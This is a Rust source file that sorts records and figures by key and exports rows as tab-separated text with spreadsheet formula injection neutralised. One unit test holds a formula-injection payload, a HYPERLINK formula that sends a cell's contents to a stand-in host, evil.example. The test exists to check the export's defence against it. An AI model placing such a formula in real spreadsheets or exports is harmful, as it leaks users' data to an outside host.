//! The lists and the table of figures as tables: how they are sorted, and their rows as
//! tab-separated text for a spreadsheet. Records without a value for the sort key (an undated
//! person, a figure without a subject) always come last, and equal values keep the order they
//! had (by name for the lists, as in the files for the table).

use crate::data::index::Index;
use crate::data::model::PartialDate;
use crate::text::sanitize;
use std::cmp::Ordering;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum SortKey {
    /// As the records come: by name in the lists, as in the files in the table of figures.
    #[default]
    Given,
    Name,
    Date,
    Value,
    Unit,
    Subject,
    Source,
}

impl SortKey {
    pub fn label(self) -> &'static str {
        match self {
            SortKey::Given => "as given",
            SortKey::Name => "name",
            SortKey::Date => "date",
            SortKey::Value => "value",
            SortKey::Unit => "unit",
            SortKey::Subject => "subject",
            SortKey::Source => "source",
        }
    }
}

/// The keys the table of figures cycles through.
pub const TABLE_KEYS: &[SortKey] = &[
    SortKey::Given,
    SortKey::Name,
    SortKey::Value,
    SortKey::Unit,
    SortKey::Subject,
    SortKey::Date,
    SortKey::Source,
];

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Order {
    pub key: SortKey,
    pub reverse: bool,
}

impl Order {
    /// The next key of `keys`, ascending.
    pub fn next_key(self, keys: &[SortKey]) -> Order {
        let at = keys.iter().position(|&k| k == self.key).unwrap_or(0);
        Order {
            key: keys[(at + 1) % keys.len()],
            reverse: false,
        }
    }

    pub fn reversed(self) -> Order {
        Order {
            reverse: !self.reverse,
            ..self
        }
    }

    /// Is this the order the records come in, so no sorting is needed?
    pub fn is_given(self) -> bool {
        self == Order::default()
    }

    /// "date ↓" for a title, naming `given` the order the records come in ("name").
    pub fn short(self, given: &str) -> String {
        let arrow = if self.reverse { "↓" } else { "↑" };
        match self.key {
            SortKey::Given => format!("{given} {arrow}"),
            k => format!("{} {arrow}", k.label()),
        }
    }

    /// "by date ↓", for the status bar.
    pub fn describe(self, given: &str) -> String {
        format!("by {}", self.short(given))
    }
}

/// A value to sort by; values of one key are always of one variant.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Value {
    Date(PartialDate),
    /// An `f64` mapped to integers that sort the same way.
    Number(i64),
    Text(String),
}

fn number(x: f64) -> i64 {
    let bits = x.to_bits() as i64;
    bits ^ (((bits >> 63) as u64) >> 1) as i64
}

fn value(index: &Index, r: usize, key: SortKey) -> Option<Value> {
    let record = index.record(r);
    let text = |s: &str| Some(Value::Text(s.to_lowercase()));
    match key {
        SortKey::Given => None,
        SortKey::Name => text(record.name()),
        SortKey::Date => record.date().map(Value::Date),
        SortKey::Value => index.statistic(r).map(|s| Value::Number(number(s.value))),
        SortKey::Unit => index.statistic(r).and_then(|s| text(&s.unit)),
        SortKey::Subject => index
            .statistic(r)
            .and_then(|s| s.subject.as_ref())
            .and_then(|id| index.resolve(id))
            .and_then(|t| text(index.record(t).name())),
        SortKey::Source => Some(index.source_label(r))
            .filter(|s| !s.is_empty())
            .and_then(|s| text(&s)),
    }
}

/// Sorts `items` (in their given order) by `order`, stably, missing values last.
pub fn sort(index: &Index, items: &mut Vec<usize>, order: Order) {
    if order.key == SortKey::Given {
        if order.reverse {
            items.reverse();
        }
        return;
    }
    let mut keyed: Vec<(Option<Value>, usize)> = items
        .iter()
        .map(|&r| (value(index, r, order.key), r))
        .collect();
    keyed.sort_by(|(a, _), (b, _)| match (a, b) {
        (Some(a), Some(b)) if order.reverse => b.cmp(a),
        (Some(a), Some(b)) => a.cmp(b),
        (Some(_), None) => Ordering::Less,
        (None, Some(_)) => Ordering::Greater,
        (None, None) => Ordering::Equal,
    });
    items.clear();
    items.extend(keyed.into_iter().map(|(_, r)| r));
}

/// Rows as tab-separated lines that paste into a spreadsheet as columns: each cell made one
/// line without tabs or control characters, and a text cell that a spreadsheet would run as a
/// formula made text (see [`crate::text::formula`]).
pub fn tsv(rows: &[Vec<String>]) -> String {
    let mut out = String::new();
    for row in rows {
        let cells: Vec<_> = row
            .iter()
            .map(|c| sanitize::line(&crate::text::formula::neutralise(c)).into_owned())
            .collect();
        out.push_str(&cells.join("\t"));
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_sort_as_their_values() {
        let xs = [
            -1e9,
            -2.5,
            -0.0,
            0.0,
            1e-9,
            3.0,
            98_990_000.0,
            f64::INFINITY,
        ];
        for w in xs.windows(2) {
            assert!(number(w[0]) <= number(w[1]), "{} {}", w[0], w[1]);
        }
    }

    #[test]
    fn tsv_cells_hold_no_tab_or_newline() {
        let rows = vec![
            vec!["a\tb".to_string(), "c\nd".to_string()],
            vec!["e".into(), "".into()],
        ];
        let text = tsv(&rows);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0].split('\t').count(), 2);
        assert_eq!(lines[1], "e\t");
    }

    #[test]
    fn tsv_cells_are_never_formulas() {
        let rows = vec![vec![
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_string(),
            "@SUM(1+1)".into(),
            "-5".into(),
            "\t=1+1".into(),
        ]];
        let text = tsv(&rows);
        let cells: Vec<&str> = text.trim_end().split('\t').collect();
        assert_eq!(cells.len(), 4, "{text:?}");
        assert!(cells[0].starts_with("'=HYPERLINK("), "{text:?}");
        assert_eq!(cells[1], "'@SUM(1+1)");
        assert_eq!(cells[2], "-5", "a number stays a number");
        assert!(cells[3].starts_with('\''), "{text:?}");
    }

    #[test]
    fn keys_cycle_and_reverse() {
        let keys = [SortKey::Given, SortKey::Date];
        let o = Order::default().next_key(&keys);
        assert_eq!(o.key, SortKey::Date);
        assert_eq!(o.next_key(&keys), Order::default());
        assert!(o.reversed().reverse);
        assert_eq!(o.reversed().describe("name"), "by date ↓");
        assert_eq!(Order::default().short("name"), "name ↑");
    }
}
